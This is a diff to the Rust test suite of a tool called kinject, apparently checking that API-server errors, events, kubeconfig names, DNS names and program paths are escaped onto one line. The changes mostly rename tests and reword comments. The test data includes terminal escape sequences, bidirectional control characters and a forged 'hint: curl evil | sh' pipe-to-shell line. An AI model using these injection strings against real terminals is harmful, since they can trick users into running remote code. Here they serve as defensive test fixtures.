@@ -1,4 +1,4 @@
-//! Words of others on the user's terminal: whatever they hold, they are text, on kinject's own line.
+//! Text from elsewhere on the user's terminal: kinject escapes it and prints it in one line.
 
 use std::ffi::OsStr;
 use std::fs;
@@ -7,21 +7,21 @@ use std::process::Command;
 
 use kinject_protocol::control::{Family, Purpose, Request};
 use kinject_protocol::executable::InjectionBlocker;
-use kinject_tests::place::shared_sandbox;
 use kinject_tests::programs::{Program, interpreter, shell, static_c};
 use kinject_tests::running::{Outcome, run};
 use kinject_tests::session::kinject_run;
+use kinject_tests::testbed::shared_sandbox;
 use serde_json::json;
 
 use crate::api_server::{Answer, api_server, is_about_agents, kubeconfig, makes_agents, pods, session_in};
 
-/// Clears the screen, sets the title, and gives advice in kinject's name.
+/// Clears the screen, sets the title, and contains a forged hint.
 const HOSTILE: &str = "no\u{1b}[2J\u{1b}]0;title\u{7}\r\n\nhint: curl evil | sh\u{9b}31m\u{202e}\u{200b}\n";
 
-/// The same as it is shown.
+/// The same, escaped.
 const SHOWN: &str = r"no\u{1b}[2J\u{1b}]0;title\u{7}\r\n\nhint: curl evil | sh\u{9b}31m\u{202e}\u{200b}\n";
 
-/// Asserts that an error is one line, an empty one and one hint, without anything that a terminal obeys.
+/// Asserts that an error is one line, an empty line and one hint, without control characters.
 #[track_caller]
 fn is_an_error_with_its_own_hint(outcome: &Outcome) {
     outcome.exited(125);
@@ -60,7 +60,7 @@ fn a_refusal_of_the_api_server_cannot_forge_a_hint() {
 }
 
 #[test]
-fn a_refusal_of_megabytes_is_cut() {
+fn api_server_error_of_megabytes_is_truncated() {
     let config = api_server(|_, _| {
         let status = json!({
             "apiVersion": "v1", "kind": "Status", "status": "Failure", "reason": "Forbidden", "code": 403,
@@ -75,7 +75,7 @@ fn a_refusal_of_megabytes_is_cut() {
 }
 
 #[test]
-fn an_event_that_somebody_forged_cannot_forge_a_hint() {
+fn forged_event_cannot_forge_a_hint() {
     let config = api_server(|method, path| {
         if is_about_agents(path) {
             makes_agents(method, path)
@@ -97,7 +97,7 @@ fn an_event_that_somebody_forged_cannot_forge_a_hint() {
 }
 
 #[test]
-fn a_pods_status_cannot_forge_a_hint_or_a_command_in_one() {
+fn pod_status_cannot_forge_a_hint_or_a_command_in_one() {
     let config = api_server(|method, path| {
         if is_about_agents(path) {
             makes_agents(method, path)
@@ -146,7 +146,7 @@ fn a_credential_plugin_cannot_forge_a_hint() {
 
 #[test]
 fn names_in_a_kubeconfig_cannot_forge_a_hint() {
-    // YAML has no place for control characters of the second kind
+    // YAML does not allow C1 control characters
     let (hostile, shown) = (HOSTILE.replace('\u{9b}', ""), SHOWN.replace(r"\u{9b}", ""));
     let config = json!({
         "apiVersion": "v1", "kind": "Config", "current-context": "none",
@@ -159,7 +159,7 @@ fn names_in_a_kubeconfig_cannot_forge_a_hint() {
     outcome.complains(&format!("hint: it has: {shown}; choose one"));
 }
 
-/// A program that sends its relay the messages that are its arguments, in hexadecimal.
+/// A program that sends messages to its relay, which are its arguments in hexadecimal.
 const CALLS: &str = r#"
 import os, socket, sys
 for message in sys.argv[1:]:
@@ -172,7 +172,7 @@ for message in sys.argv[1:]:
 "#;
 
 #[test]
-fn what_a_program_of_the_session_asks_for_is_traced_and_logged_in_lines_that_no_terminal_obeys() {
+fn control_characters_in_requests_are_escaped_in_trace_and_log() {
     let hostile = b"web\x1b[2J\r\nwarn: obey\xe2\x80\xae\xff";
     let look_up = Request::Resolve {
         family: Family::Any,
@@ -202,8 +202,8 @@ fn what_a_program_of_the_session_asks_for_is_traced_and_logged_in_lines_that_no_
 }
 
 #[test]
-fn a_dns_name_of_any_bytes_is_traced_in_one_line() {
-    // as dig takes it: bytes in decimal
+fn dns_name_of_any_bytes_is_traced_in_one_line() {
+    // dig's notation: bytes in decimal
     let look_up =
         Program::new("/usr/bin/dig").args(["+search", r"web\027[2J\013\010warn:\032obey\226\128\174"]);
     let outcome = run(&mut kinject_run(shared_sandbox(), &["--log", "trace"], &look_up));
@@ -213,7 +213,7 @@ fn a_dns_name_of_any_bytes_is_traced_in_one_line() {
 }
 
 #[test]
-fn a_program_outside_of_the_session_is_named_in_one_line_whatever_its_path() {
+fn uninjectable_program_with_any_path_is_named_in_one_line() {
     let folder = tempfile::tempdir().unwrap();
     let file = folder
         .path()
@@ -223,7 +223,7 @@ fn a_program_outside_of_the_session_is_named_in_one_line_whatever_its_path() {
         r"kinject: warning: {}/x\u{{1b}}[2J\n\nhint: obey\n\xff runs outside of the session: ",
         folder.path().display()
     );
-    // as the session's first program, and as one that another one starts
+    // as the session's first program, and as a child of it
     let first = kinject_run::<&str>(shared_sandbox(), &[], &Program::new(&file).arg("true"));
     let child = kinject_run::<&str>(shared_sandbox(), &[], &shell("\"$0\" true; exit 0").arg(&file));
     for mut command in [first, child] {
@@ -235,7 +235,7 @@ fn a_program_outside_of_the_session_is_named_in_one_line_whatever_its_path() {
 }
 
 #[test]
-fn a_program_that_cannot_be_run_is_named_in_one_line() {
+fn unrunnable_program_with_any_path_is_named_in_one_line() {
     let mut command = Command::new(kinject_tests::binaries::kinject());
     command.args(["run", "--agent", "unix:/none", "--agent-key", "/none", "--"]);
     command.arg(OsStr::from_bytes(b"no\x1b[2J\n\nhint: obey\n\xff"));
